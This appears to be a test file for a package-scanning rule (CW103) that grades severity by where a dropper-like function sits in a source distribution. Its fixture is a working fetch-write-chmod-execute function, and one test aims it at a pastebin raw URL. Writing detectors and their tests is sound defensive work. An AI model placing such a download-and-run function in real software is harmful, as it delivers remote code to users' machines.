"""CW103 at run time weighs where the dropper-like function lives: in a module the installer
puts on the user's machine it asks for a reviewer; in a test or tool of the source tree, which
runs only from a checkout, it is a note; staged on a paste site it is critical anywhere."""

from __future__ import annotations

from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Severity

_SETUP = "from setuptools import setup\nsetup(name='toolkit', version='1.0', packages=['toolkit'])\n"
_FETCH_AND_RUN = (
    "import os\nimport subprocess\nimport urllib.request\n\n\n"
    "def bootstrap(url, target):\n"
    "    data = urllib.request.urlopen(url).read()\n"
    "    with open(target, 'wb') as handle:\n"
    "        handle.write(data)\n"
    "    os.chmod(target, 0o755)\n"
    "    subprocess.check_call([target, '--version'])\n"
)


def _cw103(files: dict[str, str]) -> Severity | None:
    release = sdist_bytes({"setup.py": _SETUP, "toolkit/__init__.py": "", **files}, top="toolkit-1.0")
    fired = [f for f in scan_bytes(release, "toolkit-1.0.tar.gz").findings if f.rule == "CW103"]
    return max((f.severity for f in fired), default=None)


def test_in_an_installed_module_it_is_high() -> None:
    assert _cw103({"toolkit/fetch.py": _FETCH_AND_RUN}) is Severity.HIGH


def test_in_a_test_of_the_source_tree_it_is_a_note() -> None:
    assert _cw103({"tests/run_tests.py": _FETCH_AND_RUN}) is Severity.MEDIUM


def test_from_a_paste_site_it_is_critical_anywhere() -> None:
    staged = _FETCH_AND_RUN.replace("urlopen(url)", "urlopen('https://pastebin.com/raw/Ab12Cd34')")
    assert _cw103({"tests/run_tests.py": staged}) is Severity.CRITICAL
